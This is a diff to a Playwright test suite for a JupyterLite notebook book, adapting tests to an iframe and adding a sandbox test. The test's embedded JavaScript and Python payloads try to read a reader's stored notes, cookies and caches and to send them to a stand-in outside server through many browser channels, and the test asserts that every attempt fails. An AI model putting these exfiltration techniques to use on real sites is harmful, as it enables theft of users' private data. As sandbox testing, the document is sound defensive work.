@@ -8,7 +8,7 @@ import json
 import re
 
 import pytest
-from browsing import ARGUMENTS, BASE_PATH, ROOT, serving
+from browsing import ARGUMENTS, BASE_PATH, ROOT, Pages, serving
 from playwright.sync_api import expect
 
 import lite
@@ -63,11 +63,13 @@ def reader(sealed_browser):
 
 
 def open_by_menu(page, address, name):
-    """Open a notebook as a reader does, from its page."""
+    """Open a notebook as a reader does, from its page; return the frame that JupyterLite is in."""
     page.goto(f"{address}{name.removesuffix('.ipynb')}.html")
     page.locator("header .menu > summary").click()
     page.locator("header .menu a").first.click()
-    page.locator(".jp-Notebook .jp-Cell").first.wait_for()
+    frame = page.wait_for_selector("iframe").content_frame()
+    frame.locator(".jp-Notebook .jp-Cell").first.wait_for()
+    return frame
 
 
 def run_all(page):
@@ -168,14 +170,14 @@ def assert_figures_live(page, ran):
 @pytest.mark.exhaustive
 @pytest.mark.parametrize("name", NOTEBOOKS)
 def test_a_notebook_runs_in_a_classroom_without_internet(name, reader, classroom):
-    open_by_menu(reader.page, classroom, name)
-    assert_text_rendered(reader.page, name)
-    assert_stored_pictures_shown(reader.page, name)
-    ran = run_all(reader.page)
+    frame = open_by_menu(reader.page, classroom, name)
+    assert_text_rendered(frame, name)
+    assert_stored_pictures_shown(frame, name)
+    ran = run_all(frame)
     assert_all_ran(ran, name)
-    assert_figures_live(reader.page, ran)
+    assert_figures_live(frame, ran)
     if name == REFERENCES[0]:  # the extension that shows the book's references is there, too
-        expect(reader.page.locator(".nnlib-number").first).to_have_text(REFERENCES[1])
+        expect(frame.locator(".nnlib-number").first).to_have_text(REFERENCES[1])
     assert reader.asked_elsewhere() == []
 
 
@@ -217,8 +219,7 @@ def test_without_python_the_reader_is_told_and_can_try_again(reader, address):
             route.abort()
 
     reader.context.route(re.compile(r"/python/pyodide-[^/]+/"), answer)
-    page = reader.page
-    open_by_menu(page, address, "intro.ipynb")
+    page = open_by_menu(reader.page, address, "intro.ipynb")
     dialog, notice = page.locator(".jp-Dialog"), page.locator(".nnlib-notice")
     expect(notice).to_be_visible()
     expect(notice).to_contain_text("Python is starting in your browser.")
@@ -250,6 +251,166 @@ def test_without_python_the_reader_is_told_and_can_try_again(reader, address):
     expect(dialog).to_contain_text("Python is not running", timeout=MINUTE)
     expect(dialog).to_contain_text("fatal error")
     assert reader.asked_elsewhere() == []
+
+
+# -- What a cell cannot do -------------------------------------------------------------------------
+
+NOTE = "my private note"
+RECORD = {"nnlib-book:marks": NOTE, "nnlib-book:own": "my own code"}
+# Any JavaScript, in the page where outputs are: it looks for the record and sends it elsewhere.
+IN_PAGE = """
+(async () => {
+  const found = [];
+  const attempt = async (name, act) => {
+    const late = new Promise((_, reject) => setTimeout(reject, 2000));
+    late.catch(() => null);
+    try {
+      found.push(`${name}: ${await Promise.race([act(), late])}`);
+    } catch {
+      // as it should be
+    }
+  };
+  const made = (name, properties) => {
+    const element = Object.assign(document.createElement(name), properties);
+    document.body.append(element);
+    return element;
+  };
+  const fresh = () => made("iframe", {}).contentWindow;
+  const asked = (store, message) => store.port.postMessage(message);
+  await attempt("own", () => localStorage.getItem("nnlib-book:marks") || Promise.reject());
+  await attempt("parent", () => parent.localStorage.getItem("nnlib-book:marks"));
+  await attempt("fresh", () => fresh().localStorage.getItem("nnlib-book:marks"));
+  await attempt("cookies", () => document.cookie);
+  await attempt("caches", () => caches.keys());
+  await attempt("files", () => navigator.storage.getDirectory());
+  await attempt("worker", () => navigator.serviceWorker.getRegistrations());
+  await attempt("plant", () => localStorage.setItem("nnlib-book:own", "PLANTED"));
+  for (const [name, entry] of Object.entries({ "nnlib-book:own": 1, "/nnlib-book:own/x": 2 }))
+    asked(localStorage, { type: "keep", entry: name, value: `"PLANTED${entry}"` });
+  const leak = `ELSEWHEREleak-`;
+  await attempt("fetch", () => fetch(`${leak}fetch`, { mode: "no-cors" }));
+  await attempt("frame", () => fresh().fetch(`${leak}frame`, { mode: "no-cors" }));
+  await attempt("xml", () => {
+    const request = new XMLHttpRequest();
+    request.open("GET", `${leak}xml`, false);
+    request.send();
+  });
+  navigator.sendBeacon(`${leak}beacon`, "note");
+  new Image().src = `${leak}image`;
+  for (const rel of ["stylesheet", "prefetch", "icon"]) made("link", { rel, href: leak + rel });
+  for (const name of ["script", "iframe", "embed", "video"]) made(name, { src: leak + name });
+  made("form", { action: `${leak}form` }).submit();
+  made("form", { action: `${leak}form`, target: "_blank" }).submit();
+  made("a", { href: `${leak}download`, download: "x" }).click();
+  made("a", { href: `${leak}link`, target: "_blank" }).click();
+  window.open(`${leak}open`);
+  await attempt("window", () => fresh().open(`${leak}window`).name);
+  await attempt("top", () => { top.location = `${leak}top`; });
+  await new Promise((resolve) => setTimeout(resolve, 1000));
+  globalThis.found = found;
+})();
+"""
+IN_PYTHON = """
+import js
+from pyodide.http import open_url, pyfetch
+reached = []
+for name, act in {
+    "open": lambda: open_url("ELSEWHEREleak-url"),
+    "script": lambda: js.importScripts("ELSEWHEREleak-import"),
+    "storage": lambda: js.localStorage.getItem("nnlib-book:marks"),
+    "worker": lambda: js.Worker.new("ELSEWHEREleak-worker"),
+    "caches": lambda: js.caches.keys(),
+}.items():
+    try:
+        act()
+        reached.append(name)
+    except Exception:
+        pass
+try:
+    await pyfetch("ELSEWHEREleak-pyfetch")
+    reached.append("pyfetch")
+except Exception:
+    pass
+print(reached)
+"""
+SHOW = "from IPython.display import Javascript, display\ndisplay(Javascript({!r}))"
+RUN_CELL = """async (source) => {
+  const notebook = PANEL.content;
+  notebook.model.sharedModel.insertCell(0, { cell_type: "code", source });
+  notebook.activeCellIndex = 0;
+  await window.jupyterapp.commands.execute("notebook:run-cell");
+}""".replace("PANEL", PANEL)
+HEARD = []
+
+
+class Listening(Pages):
+    """Another server, which notes what it is asked for."""
+
+    def log_request(self, *args):
+        HEARD.append(self.path)
+
+
+def kept(page):
+    return page.evaluate("(names) => names.map((name) => localStorage.getItem(name))", [*RECORD])
+
+
+def test_a_cell_neither_reads_nor_plants_nor_sends(reader, address, html):
+    page = reader.page
+    page.goto(f"{address}intro.html")
+    page.evaluate("(record) => Object.assign(localStorage, record)", RECORD)
+    before = kept(page)
+    frame = open_by_menu(page, address, "intro.ipynb")
+    place = page.url
+    asked = []
+
+    def answer(dialog):
+        if dialog.type == "beforeunload":
+            dialog.accept()
+        else:
+            asked.append(dialog.message)
+            dialog.dismiss()
+
+    page.on("dialog", answer)
+    frame.wait_for_function(f"{PANEL}?.sessionContext.isReady")
+    with serving(html, Listening) as port:
+        elsewhere = f"http://127.0.0.1:{port}{BASE_PATH}"
+        said = run_in_kernel(frame, IN_PYTHON.replace("ELSEWHERE", elsewhere))
+        frame.evaluate(RUN_CELL, SHOW.format(IN_PAGE.replace("ELSEWHERE", elsewhere)))
+        frame.wait_for_function("window.found", timeout=MINUTE)
+        assert (said, frame.evaluate("found")) == ("[]\n", ["plant: undefined"])
+        # It can leave the frame empty, for nothing but the site is shown there.
+        frame.evaluate("(address) => { location = address; }", f"{elsewhere}leak-location")
+        page.wait_for_timeout(1000)
+        assert page.evaluate("document.querySelector('iframe') !== null")
+    assert [path for path in HEARD if "leak" in path] == []
+    assert kept(page) == before
+    assert (page.url, len(reader.context.pages)) == (place, 1)
+    assert {*asked} == {
+        f"This leads out of the book, to the address\n\n{elsewhere}leak-{name}"
+        for name in ("link", "open")
+    }
+
+
+def test_by_itself_the_app_does_not_run(reader, address):
+    """Opened at the address of its frame it leads to the page with the frame."""
+    reader.page.goto(f"{address}lite/notebooks/index.html?path=intro.ipynb")
+    frame = reader.page.wait_for_selector("iframe").content_frame()
+    assert reader.page.url == f"{address}lite/index.html?path=intro.ipynb"
+    assert frame.evaluate("self.origin") == "null"
+
+
+def test_what_a_reader_wrote_is_there_again_and_can_be_downloaded(reader, address):
+    frame = open_by_menu(reader.page, address, "intro.ipynb")
+    frame.wait_for_function(f"{PANEL}?.sessionContext.isReady")
+    frame.evaluate(RUN_CELL, "written = 'by me'")
+    frame.evaluate("window.jupyterapp.commands.execute('docmanager:save')")
+    with reader.page.expect_download() as saved:
+        frame.evaluate("window.jupyterapp.commands.execute('docmanager:download')")
+    downloaded = json.loads(saved.value.path().read_text(encoding="utf-8"))
+    assert saved.value.suggested_filename == "intro.ipynb"
+    assert joined(downloaded["cells"][0]["source"]) == "written = 'by me'"
+    frame = open_by_menu(reader.page, address, "intro.ipynb")
+    expect(frame.locator(".jp-Notebook .jp-Cell").first).to_contain_text("by me")
 
 
 def test_the_menu_offers_it_on_a_server_alone(watched, address, html):
